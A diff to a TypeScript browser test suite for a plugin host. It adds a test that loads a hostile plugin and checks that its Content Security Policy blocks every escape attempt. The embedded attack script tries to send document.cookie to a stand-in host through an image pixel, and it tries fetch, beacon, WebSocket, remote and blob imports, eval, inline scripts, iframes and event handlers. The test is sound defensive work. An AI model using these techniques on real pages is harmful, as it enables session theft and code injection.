@@ -1,6 +1,6 @@
 import { rm } from 'node:fs/promises'
 import type { ActivePlugin, MenuItem } from '@opsflux/sdk'
-import type { Browser, Page } from 'playwright-core'
+import type { Browser, Page, Request } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
 import { launchBrowser } from '../setup/browser.ts'
 import { buildShell } from './build-shell.ts'
@@ -124,6 +124,32 @@ test('an altered release that arrives while the page is open is not run either',
   host.changed()
   await page.getByText('HSE reports could not be loaded').waitFor()
   expect(await page.evaluate('window.ran')).toBeUndefined()
+})
+
+test('a plugin’s page reaches no other host, evaluates no text and makes no script of its own', async () => {
+  const attempts = `
+    const tell = (name, work) => Promise.resolve().then(work).then(() => (window.reached[name] = true), () => undefined)
+    window.reached = {}
+    const pixel = () => new Promise((resolve, reject) => { const image = new Image(); image.onload = image.onerror = reject; image.src = 'https://elsewhere.example/pixel?' + document.cookie; setTimeout(reject, 500) })
+    const inline = () => { const script = document.createElement('script'); script.textContent = 'window.reached.inline = true'; document.head.append(script); throw 0 }
+    const frame = () => { const inside = document.createElement('iframe'); inside.srcdoc = '<script>parent.reached.frame = true</' + 'script>'; document.body.append(inside); throw 0 }
+    const handler = () => { const link = document.createElement('a'); link.setAttribute('onclick', 'window.reached.handler = true'); document.body.append(link); link.click(); link.remove(); throw 0 }
+    const all = [['eval', () => eval('1')], ['function', () => new Function('return 1')()], ['fetch', () => fetch('https://elsewhere.example/')], ['beacon', () => { if (!navigator.sendBeacon('https://elsewhere.example/', 'x')) throw 0; throw 0 }],
+      ['import', () => import('https://elsewhere.example/x.js')], ['data', () => import('data:text/javascript,window.reached.data = true')], ['blob', () => import(URL.createObjectURL(new Blob(['window.reached.blob = true'], { type: 'text/javascript' })))],
+      ['socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('wss://elsewhere.example/'); socket.onopen = resolve; socket.onerror = reject })], ['pixel', pixel], ['inline', inline], ['frame', frame], ['handler', handler],
+      ['worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject })],
+      ['cookie', () => { if (!document.cookie.includes('opsflux_session')) throw 0 }]]
+    Promise.all(all.map(([name, work]) => tell(name, work))).then(() => { const done = document.createElement('p'); done.dataset.tried = all.length; document.body.append(done) })`
+  open([host.plugin('hse-reports', '1.0.0', client(`h('p', 'hostile')`, attempts))])
+  const foreign: Request[] = []
+  page.on('request', (request) => { if (request.url().includes('elsewhere.example')) foreign.push(request) })
+  await page.goto(`${host.url}/x/hse-reports/incidents`)
+  await page.locator('[data-tried="14"]').waitFor({ state: 'attached' })
+  expect(await page.evaluate('window.reached')).toEqual({})
+  expect(complaints.filter((complaint) => /content security policy/i.test(complaint)).length).toBeGreaterThan(8)
+  // What was asked for was ended by the policy, not by the network.
+  expect(foreign.map((request) => request.failure()?.errorText)).toEqual(foreign.map(() => 'csp'))
+  complaints = []
 })
 
 test('an error in a plugin’s page stays in it; one in a handler leaves the page standing', async () => {
